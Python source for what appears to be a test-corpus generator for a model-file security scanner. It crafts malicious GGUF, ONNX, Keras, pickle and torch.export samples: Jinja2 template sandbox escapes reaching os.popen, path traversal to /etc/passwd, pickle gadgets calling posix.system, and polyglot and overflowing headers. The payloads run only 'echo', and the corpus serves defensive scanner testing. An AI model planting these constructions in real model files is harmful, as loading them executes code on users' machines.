def gguf(keys: bytes = b"", count: int = 0, key_count: int = 0, tensors: bytes = b"", data: bytes = b"", version: int = 3) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", version, count, key_count) + keys + tensors
    return head + b"\0" * (-len(head) % 32) + data


def gguf_text(text: str) -> bytes:
    return struct.pack("<Q", len(text.encode())) + text.encode()


TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('echo').read() }}",
    "{{ messages|attr('__class__') }}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages['__class__'] }}",
    "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ messages['__cl' ~ 'ass__'] }}",
    "{{ lipsum.__globals__['os'].system('echo') }}",
    "{% include '/etc/passwd' %}",
    "{% import 'a' as b %}{{ b.c() }}",
    "{% extends 'a' %}",
    "{% from 'a' import b %}",
    "{{ '{0.__class__}'.format(messages) }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ getattr(messages, 'x') }}",
    "{{ self._TemplateReference__context }}",
    "{{ joiner.__init__ }}",
    "{{ (messages.pop)() }}{{ x.system('echo') }}",
    "{% set ns = namespace(a=cycler.__init__) %}",
    "{{ request.application.__globals__ }}",
    "{{ foo.func_globals('a') }}",
    "{% for x in messages %}",
    "{{ " + "(" * 500 + "1" + ")" * 500 + " }}",
    "{{ " + "not " * 5000 + "1 }}",
    "x" * 300_000,
)


def ggufs() -> Iterator[tuple[str, bytes]]:
    """Counts that overflow, and templates that run code."""
    for template in TEMPLATES:
        keys = gguf_text("tokenizer.chat_template") + struct.pack("<I", 8) + gguf_text(template)
        yield f"template {template[:40]}", gguf(keys, 0, 1)
        named = gguf_text("tokenizer.chat_template.tool_use") + struct.pack("<I", 8) + gguf_text(template)
        yield f"named template {template[:40]}", gguf(named, 0, 1)
    for count, keys in ((2**63, 0), (0, 2**63), (2**64 - 1, 2**64 - 1), (10**9, 1), (1, 0), (0, 1)):
        yield f"{count} tensors, {keys} keys", gguf(b"", count, keys)
    yield "text of 2**63", gguf(struct.pack("<Q", 2**63), 0, 1, data=b"\0" * 64)
    array = gguf_text("a") + struct.pack("<IIQ", 9, 4, 2**62)
    yield "array of 2**62", gguf(array, 0, 1, data=b"\0" * 64)
    nested = gguf_text("a") + struct.pack("<IIQ", 9, 9, 1) + struct.pack("<IQ", 9, 1) * 200
    yield "arrays in arrays", gguf(nested, 0, 1, data=b"\0" * 64)
    yield "unknown kind of value", gguf(gguf_text("a") + struct.pack("<I", 77), 0, 1, data=b"\0" * 64)
    for dims in (5, 2**32 - 1):
        yield f"{dims} dimensions", gguf(b"", 1, 0, gguf_text("t") + struct.pack("<I", dims) + b"\0" * 64)
    big = gguf_text("t") + struct.pack("<IQQIQ", 2, 2**32, 2**32, 0, 0)
    yield "elements overflow", gguf(b"", 1, 0, big)
    outside = gguf_text("t") + struct.pack("<IQIQ", 1, 1000, 0, 0)
    yield "tensor outside", gguf(b"", 1, 0, outside, b"\0" * 32)
    yield "offset outside", gguf(b"", 1, 0, gguf_text("t") + struct.pack("<IQIQ", 1, 8, 0, 2**40), b"\0" * 32)
    two = gguf_text("t") + struct.pack("<IQIQ", 1, 8, 0, 0) + gguf_text("u") + struct.pack("<IQIQ", 1, 8, 0, 0)
    yield "tensors overlap", gguf(b"", 2, 0, two, b"\0" * 64)
    yield "unknown kind of tensor", gguf(b"", 1, 0, gguf_text("t") + struct.pack("<IQIQ", 1, 8, 999, 0), b"\0" * 64)
    aligned = gguf_text("general.alignment") + struct.pack("<II", 4, 3)
    yield "alignment", gguf(aligned, 0, 1)
    yield "version", gguf(version=99)
    yield "other byte order", b"GGUF" + struct.pack(">IQQ", 3, 0, 0) + b"\0" * 32
    key = gguf_text("a") + struct.pack("<II", 4, 3)
    yield "key twice", gguf(key * 2, 0, 2)
    yield "tail", gguf(b"", 1, 0, gguf_text("t") + struct.pack("<IQIQ", 1, 8, 0, 0), b"\0" * 32) + b"\x80\x02N." * 40


# -- ONNX, Keras, exported programs


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes((value & 127 | 128,))
        value >>= 7
    return out + bytes((value,))


def field(number: int, value: int | bytes) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def onnx_model(tensor: bytes = b"", extra: bytes = b"") -> bytes:
    graph = field(1, field(4, b"Add")) + field(2, b"g") + (field(5, tensor) if tensor else b"")
    return field(1, 8) + field(7, graph) + field(8, field(1, b"") + field(2, 18)) + extra


def onnx_external(**entries: str) -> bytes:
    tensor = field(1, 2) + field(2, 1) + field(8, b"w") + field(14, 1)
    for key, value in entries.items():
        tensor += field(13, field(1, key.encode()) + field(2, value.encode()))
    return onnx_model(tensor)


def onnx() -> Iterator[tuple[str, bytes]]:
    """Models that read files they should not, and messages that are none."""
    for place in ("../secret", "/etc/passwd", "a/../../b", "C:\\x", "..\\x", "\\\\host\\x", "", "a\0b", "x/../../y", "file:/etc/passwd"):
        yield f"location {place!r}", onnx_external(location=place)
    yield "offset negative", onnx_external(location="w.bin", offset="-1")
    yield "offset no number", onnx_external(location="w.bin", offset="0x10")
    yield "unknown word", onnx_external(location="w.bin", evil="1")
    yield "base path", onnx_external(location="w.bin", basepath="/etc")
    yield "no location", onnx_external(offset="0")
    yield "no graph", field(1, 8)
    yield "cut", onnx_model()[:-3]
    deep = b""
    for _ in range(200):
        deep = field(1, field(4, b"If") + field(5, field(6, deep)))
    yield "deep graphs", field(1, 8) + field(7, deep)
    yield "unknown field", onnx_model(extra=field(99, b"x"))
    yield "long number", field(1, 8) + b"\x38" + b"\xff" * 20
    yield "group", field(1, 8) + b"\x3b\x3c"
    yield "pickle in front", call("builtins", "len") + onnx_model()
    yield "pickle behind", onnx_model() + call("builtins", "len")


def keras_zip(config: object, extra: Iterable[tuple[str, bytes]] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.9.0"}')
        archive.writestr("config.json", config if isinstance(config, (str, bytes)) else json.dumps(config))
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


KERAS = (
    {"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}},
    {"class_name": "Lambda", "module": "keras.layers", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAA"}}}},
    {"class_name": "__lambda__", "config": {"code": "4wAA"}},
    {"class_name": "function", "module": "builtins", "config": "eval"},
    {"class_name": "function", "module": "os", "config": "system"},
    {"class_name": "system", "module": "os"},
    {"class_name": "Popen", "module": "subprocess"},
    {"class_name": "x", "module": "kerasx.layers"},
    {"class_name": "x", "module": "keras_evil"},
    {"class_name": "function", "module": "keras.config", "config": "enable_unsafe_deserialization"},
    {"class_name": "enable_unsafe_deserialization", "module": "keras.config"},
    {"class_name": "load_model", "module": "keras.models"},
    {"class_name": "function", "module": "keras.models", "config": "load_model"},
    {"class_name": "get_file", "module": "keras.utils"},
    {"class_name": "function", "module": "keras.src.datasets.cifar", "config": "load_batch"},
    {"class_name": "function", "module": "keras.src.backend.common.remat", "config": "namedtuple"},
    {"class_name": "ResNet50", "module": "keras.applications"},
    {"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}},
    {"class_name": "TFOpLambda", "config": {"name": "w", "function": "py_function"}},
    {"class_name": "TFOpLambda", "config": {"name": "w", "function": "experimental.dlpack.from_dlpack"}},
    {"class_name": "SlicingOpLambda", "config": {"function": ["io.write_file"]}},
    {"class_name": "InstanceProperty", "config": {"attr_name": "__class__"}},
    {"class_name": "Backbone", "module": "keras_hub.src.models"},
    {"class_name": "function", "module": "keras.utils", "config": "get_file"},
    {"class_name": "TorchModuleWrapper", "module": "keras.src.utils.torch_utils", "config": {"module": "gASV"}},
    {"class_name": "Dense", "module": "keras.layers", "registered_name": "p>Dense", "config": {"activation": {"class_name": "Lambda"}}},
    {"class_name": "Own", "module": "mine.layers", "registered_name": "mine>Own"},
    {"class_name": ["Lambda"], "module": "keras.layers"},
    {"class_name": "Dense", "module": ["os"]},
)


def keras() -> Iterator[tuple[str, bytes]]:
    """Configurations that create code."""
    weights = [("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 80)]
    for config in KERAS:
        yield f"keras {json.dumps(config)[:50]}", keras_zip(config, weights)
        inner = {"class_name": "Functional", "module": "keras", "config": {"layers": [config]}}
        yield f"keras inner {json.dumps(config)[:50]}", keras_zip(inner)
    good = {"class_name": "Sequential", "module": "keras", "config": {"layers": []}}
    yield "keras not JSON", keras_zip("{")
    yield "keras deep", keras_zip('{"a":' * 5000 + "1" + "}" * 5000)
    yield "keras with a pickle", keras_zip(good, [("weights.pkl", call("builtins", "len"))])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.npy", call("builtins", "len"))
    yield "keras with npz", keras_zip(good, [("model.weights.npz", out.getvalue())])
    yield "keras with a program", keras_zip(good, [("run.py", b"1")])
    for text in (b'{"class_name": "Lambda"}', b'{"function_type": "lambda"}', b'{"class_name":"__lambda__"}'):
        yield f"hdf5 {text.decode()}", b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + text + b"\0" * 500
        yield f"hdf5 far {text.decode()}", b"\x89HDF\r\n\x1a\n" + b"\0" * ((1 << 20) - 20) + text + b"\0" * 500


def evaluated() -> Iterator[tuple[str, bytes]]:
    """Exported programs with texts that `torch.export` evaluates or imports by."""

    def made(**program: object) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, data in (("archive_format", "pt2"), ("archive_version", "0"), ("models/model.json", json.dumps({"graph_module": {}, **program}))):
                archive.writestr(zipfile.ZipInfo(f"m/{name}"), data)
        return out.getvalue()

    for module, name in gadgets():
        code = f"__import__('{module}').{name}('echo')"
        yield "pt2 size that is code", made(sizes=[{"as_expr": {"expr_str": code, "hint": None}}])
        yield "pt2 guard that is code", made(guards_code=[f"L['x'].size()[0] == {code}"])
        yield "pt2 range of what is code", made(range_constraints={code: {"min_val": 0, "max_val": 1}})
        factory = json.dumps({"default_factory_module": module, "default_factory_name": name, "dict_context": []})
        spec = json.dumps([1, {"type": "collections.defaultdict", "context": factory, "children_spec": []}])
        yield "pt2 structure that imports", made(signature={"in_spec": spec, "out_spec": "[1, {}]"})
        named = json.dumps([1, {"type": "x", "context": json.dumps({"__enum__": True, "fqn": f"{module}:{name}", "name": "a"})}])
        yield "pt2 enumeration that imports", made(signature={"in_spec": "[1, {}]", "out_spec": named})
    for text in (
        *("().__class__", "s0.__class__", "(lambda: 1)()", "[x for x in s0]", "f'{s0}'", "Max(*s0)", "Symbol('s0', integer=eval)", "s0[0]"),
        *("Symbol('s0 + exit()')", "Function('f')(1)", "sympify('1')", "S('1')", "parse_expr('1')", "lambdify(s0, s0)", "Lambda(s0, s0)", "s0.subs(1, 2)"),
        *("9**9**9**9", "1 if s0 else 2", "s0 := 1", "'a'", "__x", "exit()", "1;exit()", "s0\nexit()", "Max(s0, key=exit)", "", "(" * 500),
    ):
        yield "pt2 size that is no arithmetic", made(sizes=[{"as_expr": {"expr_str": text}}])
    for text in ("L['x'].numpy()", "L['x'].__class__", "torch.load('x')", "torch.hub.load('x')", "x.size()", "math.__loader__", "True) or exit()"):
        yield "pt2 guard that calls", made(guards_code=[text])


def legacy_in_tar(name: str) -> bytes:
    """A legacy checkpoint that is a tar archive too, for `torch.load` tries that first: its third pickle, a text, holds the members."""
    inner = {"sys_info": b"(dp0\n.", "storages": call("posix", name, "echo hello", 0), "tensors": b"I0\n.", "pickle": b"I0\n."}
    members = b""
    for title, data in inner.items():
        info = tarfile.TarInfo(title)
        info.size = len(data)
        members += info.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % 512)
    start = b"".join(_LEGACY[:2]) + b"\x80\x02X"
    header = bytearray(512)
    header[: len(start) + 4] = start + struct.pack("<I", 512 - len(start) - 4 + len(members) + 1024)
    for at, text in ((100, b"0000644\0" + b"0000000\0" * 2 + b"00000000000\0" * 2 + b" " * 8 + b"0"), (257, b"ustar\00000")):
        header[at : at + len(text)] = text
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + members + b"\0" * 1024 + b"." + b"".join(_LEGACY[3:])


def pt2(bad: bytes) -> Iterator[tuple[str, bytes]]:
    """Exported programs that unpickle."""

    def made(*members: tuple[str, bytes]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, data in (("archive_format", b"pt2"), ("archive_version", b"0"), ("models/model.json", b'{"graph_module": {}}'), *members):
                archive.writestr(zipfile.ZipInfo(f"m/{name}"), data)
        return out.getvalue()

    entry = {"path_name": "weight_0", "is_param": True, "use_pickle": True, "tensor_meta": None}
    for kind in ("weights", "constants"):
        config = json.dumps({"config": {"w": entry}}).encode()
        yield f"pt2 use_pickle in {kind}", made((f"data/{kind}/model_{kind}_config.json", config), (f"data/{kind}/weight_0", bad))
    path = json.dumps({"config": {"w": {**entry, "use_pickle": False, "path_name": "../weight"}}}).encode()
    yield "pt2 path", made(("data/weights/model_weights_config.json", path))
    yield "pt2 without use_pickle", made(("data/weights/model_weights_config.json", b'{"config": {"w": {"path_name": "a"}}}'))
    yield "pt2 config no JSON", made(("data/weights/model_weights_config.json", b"{"))
    yield "pt2 opaque", made(("data/constants/opaque_obj_0", bad))
    yield "pt2 custom", made(("data/constants/custom_obj_0", bad))
    yield "pt2 sample inputs", made(("data/sample_inputs/model.pt", torch_zip(bad)))
    yield "pt2 sample inputs raw", made(("data/sample_inputs/model.pt", bad))
    yield "pt2 sample inputs legacy", made(("data/sample_inputs/model.pt", b"".join((*_LEGACY[:3], bad))))
    yield "pt2 weights as pt", made(("data/weights/model.pt", torch_zip(bad)))
    yield "pt2 machine code", made(("data/aotinductor/model/a.so", b"\x7fELF" + b"\0" * 60))
    yield "pt2 source", made(("data/aotinductor/model/a.cpp", b"int main(){}"))
    yield "pt2 extra pickle", made(("extra/notes", bad))
    yield "pt2 program no JSON", made(("models/other.json", b"{"))
    yield "pt2 tensor is a pickle", made(("data/weights/weight_0", bad))


ENDINGS = (".pt", ".pth", ".ckpt", ".bin", ".pkl", ".pickle", ".PT", ".Pkl", ".joblib", ".dill", ".npy", ".safetensors", ".onnx", ".h5", ".keras", ".gguf", "")


def files() -> Iterator[Sample]:
    """Every file, in a fixed order."""
    found = gadgets()
    for module, name in found:
        for protocol in (0, 2, 4):
            yield Sample(f"gadget protocol {protocol}", f"{module}.{name}.{protocol}.pkl", call(module, name, protocol=protocol))
        yield Sample("gadget in a checkpoint", f"{module}.{name}.pt", torch_zip(call(module, name)))
        yield Sample("gadget in a legacy checkpoint", f"{module}.{name}.legacy.pt", b"".join((*_LEGACY[:3], call(module, name), _LEGACY[4])))
    for index, (module, name) in enumerate((("builtins", "len"), ("posix", "system"), ("torch.hub", "load"))):
        for construction, data in forms(module, name):
            yield Sample(f"form: {construction}", f"form{index}.pkl", data)
            yield Sample(f"form in a checkpoint: {construction}", f"form{index}.pt", torch_zip(data))
    for construction, data in (*odd_names(), *bombs()):
        yield Sample(construction, "odd.pkl", data)
        yield Sample(f"{construction} in a checkpoint", "odd.pt", torch_zip(data))
    payloads = [call("builtins", "len"), call("posix", "system", protocol=4), b"(S'echo'\nibuiltins\nlen\n."]
    for index, bad in enumerate(payloads):
        for construction, data in (*zip_tricks(bad), *legacy(bad)):
            for suffix in (".pt", ".bin"):
                yield Sample(f"container: {construction}", f"c{index}{suffix}", data)
        for construction, suffix, data in wrapped(bad):
            yield Sample(f"wrapped: {construction}", f"w{index}{suffix}", data)
        for construction, data in pt2(bad):
            yield Sample(construction, f"p{index}.pt2", data)
    for construction, data in evaluated():
        yield Sample(construction, "code.pt2", data)
    for name in ("system", "popen", "execv"):
        for suffix in (".pt", ".bin", ".pkl", ""):
            yield Sample("container: legacy checkpoint that is a tar too", f"tar{suffix}", legacy_in_tar(name))
    for suffix in ENDINGS:
        for protocol in (2, 4):
            yield Sample(f"ending {suffix}", f"file{suffix}", call("posix", "system", protocol=protocol))
        yield Sample(f"archive ending {suffix}", f"file{suffix}", torch_zip(call("posix", "system")))
    whole = torch_zip(call("builtins", "len", "echo " * 3))
    raw = call("posix", "system", "echo hello", 4)
    for end in range(3, len(raw)):
        yield Sample("cut pickle", "cut.pkl", raw[:end])
    for end in range(40, len(whole), 9):
        yield Sample("cut archive", "cut.pt", whole[:end])
    for kind, maker, suffix in (("safetensors", safetensors, ".safetensors"), ("gguf", ggufs, ".gguf"), ("onnx", onnx, ".onnx")):
        for construction, data in maker():
            yield Sample(f"{kind}: {construction}", f"x{suffix}", data)
    for suffix in (".pkl", ".pt", ".safetensors", ".joblib"):
        yield Sample("safetensors under another name", f"two{suffix}", two_natures(call("posix", "system")))
    for construction, data in keras():
        yield Sample(construction, "x.h5" if construction.startswith("hdf5") else "x.keras", data)


def sample(every: int = 6) -> Iterator[Sample]:
    """Each construction at least once, gadgets and cuts thinned out."""
    seen: dict[str, int] = {}
    for one in files():
        count = seen[one.construction] = seen.get(one.construction, 0) + 1
        if count == 1 or count % every == 0:
            yield one
